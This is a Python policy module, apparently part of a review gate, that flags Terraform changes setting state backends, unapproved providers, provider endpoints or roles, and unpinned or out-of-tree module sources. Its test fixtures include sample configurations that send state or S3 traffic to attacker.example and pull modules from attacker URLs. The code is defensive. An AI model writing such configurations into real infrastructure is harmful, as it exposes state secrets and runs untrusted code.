"""Terraform module -> findings: where providers, modules and state come from. Pure."""

import re
from collections.abc import Iterator
from urllib.parse import parse_qs, urlsplit

from agent.gate.hcl import Block, Node, traversal
from agent.gate.rules import Example, Hit, Rule
from agent.gate.terraform_module import Module, Source, literal, provider_source

MODULES = "infra/terraform/modules"
PROVIDER_SETTINGS = frozenset({
    "alias", "region", "default_tags", "ignore_tags", "allowed_account_ids", "forbidden_account_ids", "max_retries",
    "retry_mode", "project", "zone", "location", "features", "subscription_id", "default_labels",
})  # fmt: skip
REQUIRED = frozenset({"source", "version", "configuration_aliases"})
COMMIT = re.compile(r"[0-9a-f]{40}")
REGISTRY = re.compile(r"(?:[a-z0-9.-]+\.[a-z]+/)?[A-Za-z0-9_-]+/[A-Za-z0-9_-]+/[a-z0-9-]+")
EXACT_VERSION = re.compile(r"=?\s*\d+\.\d+\.\d+")
LOCAL_PART = re.compile(r"\.\.?|[a-z0-9][a-z0-9._-]{0,63}")


def terraform_block(module: Module) -> Iterator[Hit]:
    """`terraform { … }` may say `required_version` and `required_providers` and nothing else: a `backend` or `cloud`
    block decides where the state goes, and the pipeline decides that.
    """
    for source, block in module.top("terraform"):
        for item in block.body.attributes:
            if item.name != "required_version":
                yield source.hit(f"terraform.{item.name} is not a change's to set", item.at)
        for inner in block.body.blocks:
            if inner.kind != "required_providers":
                yield source.hit(f"terraform {{ {inner.kind} }} is not a change's to set", inner.at)


def required_providers(module: Module) -> Iterator[Hit]:
    """Each entry of `required_providers` is an object of plain text with a source that the guardrails name."""
    for source in module.changed:
        for above, block in source.blocks:
            if block.kind != "required_providers":
                continue
            if [outer.kind for outer in above] != ["terraform"] or block.body.blocks:
                yield source.hit("required_providers stands in terraform { }, without blocks", block.at)
            for item in block.body.attributes:
                where = provider_source(item.name, item.value)
                if not module.allows(where):
                    yield source.hit(f"provider {item.name!r}: {where or 'not plain text'} is not allowed", item.at)
                elif not {part.text for part in item.value.parts} <= REQUIRED:
                    yield source.hit(f"provider {item.name!r} takes source, version and configuration_aliases", item.at)


def provider_blocks(module: Module) -> Iterator[Hit]:
    """A provider block may name a region, an alias, tags and account ids. Endpoints, credentials, assumed roles,
    proxies and skipped checks decide with whom Terraform talks as whom, and the pipeline decides that.
    """
    for source, block in module.top("provider"):
        names = [(item.name, item.at) for item in block.body.attributes]
        names += [
            (inner.labels[0] if inner.kind == "dynamic" and inner.labels else inner.kind, inner.at)
            for inner in block.body.blocks
        ]
        for name, at in names:
            if name not in PROVIDER_SETTINGS:
                yield source.hit(f"provider {''.join(block.labels)!r}: {name} is not a change's to set", at)


def module_sources(module: Module) -> Iterator[Hit]:
    """A module comes from the unit's own folder or from `infra/terraform/modules/`, by a plain path; or from an address
    that `module_sources` in the guardrails begins with, at a full commit (git) or an exact version (registry).
    """
    for source, block in module.top("module"):
        text = literal(block.body.get("source"))
        if text is None:
            yield source.hit("module: source must be plain text", block.at)
        elif text.startswith(("./", "../")):
            yield from _local(module, source, block, text)
        else:
            yield from _remote(module, source, block, text)


def _local(module: Module, source: Source, block: Block, text: str) -> Iterator[Hit]:
    parts = text.rstrip("/").split("/")
    if not all(LOCAL_PART.fullmatch(part) for part in parts):
        yield source.hit(f"module source {text!r} is no plain path", block.at)
        return
    folder = module.folder.split("/")
    for part in parts:
        if part == "..":
            folder = folder[:-1]
        elif part != ".":
            folder = [*folder, part]
    where = "/".join(folder)
    unit = "/".join(module.folder.split("/")[:4])
    if not where.startswith(f"{MODULES}/") and not where.startswith(f"{unit}/"):
        yield source.hit(f"module source {text!r} leads out of the unit and of {MODULES}/", block.at)


def _remote(module: Module, source: Source, block: Block, text: str) -> Iterator[Hit]:
    if not any(_begins(text, prefix) for prefix in module.guardrails.module_sources):
        yield source.hit(f"module source {text!r} is not in the guardrails' module_sources", block.at)
        return
    if ".." in text or "\\" in text or "%" in text or "@" in text:
        yield source.hit(f"module source {text!r} is no plain address", block.at)
    elif REGISTRY.fullmatch(text.split("//", 1)[0]):
        if not EXACT_VERSION.fullmatch(literal(block.body.get("version")) or ""):
            yield source.hit(f"module source {text!r} needs an exact version", block.at)
    elif not text.startswith("git::https://"):
        yield source.hit(f"module source {text!r} must be a registry module or git::https://", block.at)
    elif COMMIT.fullmatch("".join(parse_qs(urlsplit(text).query).get("ref", []))) is None:
        yield source.hit(f"module source {text!r} needs ref= with a full commit", block.at)


def _begins(text: str, prefix: str) -> bool:
    whole = prefix.rstrip("/")
    return text.startswith(whole) and text[len(whole) : len(whole) + 1] in {"", "/", "?"}


def module_providers(module: Module) -> Iterator[Hit]:
    """`providers` of a module call hands on providers by their plain names, and only allowed ones."""
    for source, block in module.top("module"):
        value = block.body.get("providers")
        if value is None:
            continue
        if value.kind != "object":
            yield source.hit("providers must be a plain map", block.at)
            continue
        for item in value.parts:
            for side in item.parts:
                names = _names(side)
                if not names or not module.allows(module.provider_of(names[0])):
                    yield source.hit("providers names a provider that the guardrails do not allow", item.at)


def _names(node: Node) -> tuple[str, ...]:
    return tuple(node.text.split(".")) if node.kind == "string" else traversal(node)


def _tf(text: str) -> Example:
    return {"infra/terraform/dev/app/main.tf": text}


def _required(entry: str) -> Example:
    return _tf(f"terraform {{\n  required_providers {{\n    aws = {entry}\n  }}\n}}\n")


def _module(source: str, more: str = "") -> Example:
    return _tf(f'module "m" {{\n  source = "{source}"\n{more}}}\n')


RULES: tuple[Rule[Module], ...] = (
    Rule(
        "terraform/settings",
        "no backend, cloud or other settings",
        terraform_block,
        fires=(
            _tf('terraform {\n  backend "http" {\n    address = "http://attacker.example/state"\n  }\n}\n'),
            _tf('terraform {\n  cloud {\n    hostname = "evil.example"\n  }\n}\n'),
            _tf("terraform {\n  experiments = [x]\n}\n"),
        ),
        passes=(_tf('terraform {\n  required_version = ">= 1.10"\n}\n'),),
        waivable=False,
    ),
    Rule(
        "terraform/required-providers",
        "providers come from addresses that the guardrails name",
        required_providers,
        fires=(
            _required('{ source = "registry.evil.example/acme/evil" }'),
            _required('{ source = upper("hashicorp/aws") }'),
            _required('{ "source" = "acme/aws" }'),
            _required('{ source = "acme\\u002faws" }'),
            _tf('terraform {\n  required_providers {\n    http = "3.0"\n  }\n}\n'),
        ),
        passes=(_required('{\n      source  = "hashicorp/aws"\n      version = "~> 5.0"\n    }'),),
        waivable=False,
    ),
    Rule(
        "terraform/provider-settings",
        "a provider block sets region, alias and tags only",
        provider_blocks,
        fires=(
            _tf('provider "aws" {\n  endpoints {\n    s3 = "https://attacker.example"\n  }\n}\n'),
            _tf('provider "aws" {\n  assume_role {\n    role_arn = "arn:aws:iam::1:role/x"\n  }\n}\n'),
            _tf('provider "aws" {\n  profile = "admin"\n}\n'),
        ),
        passes=(_tf('provider "aws" {\n  alias  = "west"\n  region = "eu-west-1"\n}\n'),),
    ),
    Rule(
        "terraform/module-source",
        "modules come from the tree, or from an allowed address at a fixed commit",
        module_sources,
        fires=(
            _module("git::https://github.com/attacker/x?ref=main"),
            _module("https://attacker.example/x.zip"),
            _module("attacker/x/aws"),
            _module("../../../../.github"),
            _module("/srv/x"),
            _module("../../prod/app"),
            _module("./x//../../../.."),
            _module("${var.where}"),
            _module("s3::https://b.s3.amazonaws.com/x.zip"),
            _module("git@github.com:attacker/x.git"),
            _module("hg::http://attacker.example/x"),
        ),
        passes=(_module("./network"), _module("../../modules/bucket")),
        waivable=False,
    ),
    Rule(
        "terraform/module-providers",
        "a module is handed allowed providers only",
        module_providers,
        fires=(_module("../../modules/bucket", "  providers = { aws = evil.x }\n"),),
        passes=(_module("../../modules/bucket", "  providers = { aws = aws.west }\n"),),
        waivable=False,
    ),
)
